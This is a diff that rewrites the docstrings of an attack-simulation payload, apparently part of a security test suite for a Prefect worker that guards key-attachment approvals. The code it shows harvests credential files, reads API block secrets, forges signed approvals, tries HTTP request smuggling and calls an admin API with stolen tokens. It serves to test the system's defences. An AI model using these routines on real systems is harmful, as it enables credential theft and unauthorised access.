@@ -1,11 +1,11 @@
 """What an attacker's code does once Prefect executes it as the worker. Standard library only.
 
-    python payload.py NAME          NAME says how it came to be executed
+    python payload.py NAME          NAME: the way in which it was executed
 
-It is carried whole by each payload of `tests.proofs.prefect_attacks`, and does the worst that the
-worker's user can: it reads every file that it may, gathers every signed approval and everything
-that looks like a credential, and sends attaches and creates to the gateway and past it. What it
-tried, and what it could do that it should not, is left as JSON.
+Each payload of `tests.proofs.prefect_attacks` contains this whole file. It does the worst that the
+worker's user can: it reads every file that it may, collects every signed approval and everything
+that looks like a credential, and sends attaches and creates to the gateway and directly to the
+Admin API. It writes as JSON what it tried, and what it could do but must not.
 """
 
 import base64
@@ -33,7 +33,7 @@ SAMPLED = 13
 
 
 class Attack:
-    """One execution, and what came of it."""
+    """One execution, and its results."""
 
     def __init__(self, name: str) -> None:
         self.name = name
@@ -50,7 +50,7 @@ class Attack:
     def send(
         self, address: str, method: str, path: str, body: object = None, **headers: str
     ) -> dict[str, Any]:
-        """One request that must not attach anything; the JSON of its answer."""
+        """Send one request that must not attach anything; returns the JSON of its answer."""
         self.tries += 1
         where = urllib.parse.urlsplit(address)
         connection = http.client.HTTPConnection(str(where.hostname), where.port, timeout=60)
@@ -76,7 +76,7 @@ class Attack:
             connection.close()
 
     def read_everything(self) -> None:
-        """Every file that this user may read, in which a credential could be."""
+        """Read every file in which a credential could be, if this user may."""
         for place in PLACES:
             for folder, _, names in os.walk(place, onerror=lambda _: None):
                 for name in names:
@@ -96,7 +96,7 @@ class Attack:
                 self.problems.append(f"{path} can be read by uid {os.getuid()}")
 
     def write_where_it_must_not(self) -> None:
-        """Who may change these decides who may attach."""
+        """Try to write to the files that decide who may attach."""
         for path in (
             "/etc/cmek/allowed_signers",
             "/etc/cmek/minimum_signatures",
@@ -111,7 +111,7 @@ class Attack:
                 self.problems.append(f"{path} can be written by uid {os.getuid()}")
 
     def ask_prefect(self) -> None:
-        """The secrets of all blocks, as the API shows them to any writer."""
+        """Read the secrets of all blocks, which the API shows to every user of it."""
         address = os.environ.get("PREFECT_API_URL", "http://127.0.0.1:4200/api")
         login = os.environ.get("PREFECT_API_AUTH_STRING", "")
         self.secrets |= {login} if SECRET.match(login.encode()) else set()
@@ -125,7 +125,7 @@ class Attack:
         self.secrets |= {one.decode() for one in SECRET.findall(json.dumps(found).encode())}
 
     def forged(self) -> list[str]:
-        """Approvals that no approver has signed so: altered, under another key, or none."""
+        """Approvals that no approver has signed: altered, signed with another key, or empty."""
         made = ["", "please"]
         with tempfile.TemporaryDirectory() as scratch:
             key = Path(scratch) / "key"
@@ -162,7 +162,7 @@ class Attack:
         return done.stdout.decode()
 
     def look_around(self) -> None:
-        """Workspaces and external keys, one of the attacker's own among them."""
+        """Register a key of the attacker's own, and list workspaces and external keys."""
         base = "/v1/organizations"
         found = self.send(self.gateway, "GET", f"{base}/workspaces?limit=100").get("data", [])
         self.workspaces = [one["id"] for one in found if not one["external_key_id"]]
@@ -176,7 +176,7 @@ class Attack:
         self.keys = [one["id"] for one in keys]
 
     def attach_through_the_gateway(self) -> None:
-        """Each workspace, each key, each approval; and the same asked for in other words."""
+        """Try each workspace, key and approval, then the same requests in other forms."""
         base = "/v1/organizations/workspaces"
         forged = self.forged()
         approvals = [*self.approvals, *forged, "\n".join(self.approvals)]
@@ -227,7 +227,7 @@ class Attack:
         yield "POST", f"{base}/{workspace}", ("{" + f'{text},"\\u0074ags":{{}}' + "}").encode()
 
     def smuggle(self) -> None:
-        """Two requests in one, should two readers disagree about where the first one ends."""
+        """Request smuggling: two requests in one, which two parsers may divide differently."""
         where = urllib.parse.urlsplit(self.gateway)
         body = json.dumps({"external_key_id": self.keys[0]})
         path = f"/v1/organizations/workspaces/{self.workspaces[0]}"
@@ -252,7 +252,7 @@ class Attack:
                     pass
 
     def attach_past_the_gateway(self) -> None:
-        """With all that looks like a credential, and with none."""
+        """Call the Admin API directly, without a credential and with all that look like one."""
         path = f"/v1/organizations/workspaces/{self.workspaces[0]}"
         body = {"external_key_id": self.keys[0]}
         self.send(self.upstream, "POST", path, body)
@@ -261,7 +261,7 @@ class Attack:
             self.send(self.upstream, "POST", path, body, authorization=f"Bearer {secret}")
 
     def leave(self) -> None:
-        """What came of it, for the proof to read."""
+        """Write the results for the proof; renamed last, so that it never reads half a file."""
         found = {
             "uid": os.getuid(),
             "tries": self.tries,
@@ -276,7 +276,7 @@ class Attack:
 
 
 def do_the_worst(name: str) -> None:
-    """All of it, once for each way of being executed."""
+    """Do all steps, once for each way in which this is executed."""
     started = PLACE / f"{name}.started"
     try:
         started.touch(exist_ok=False)
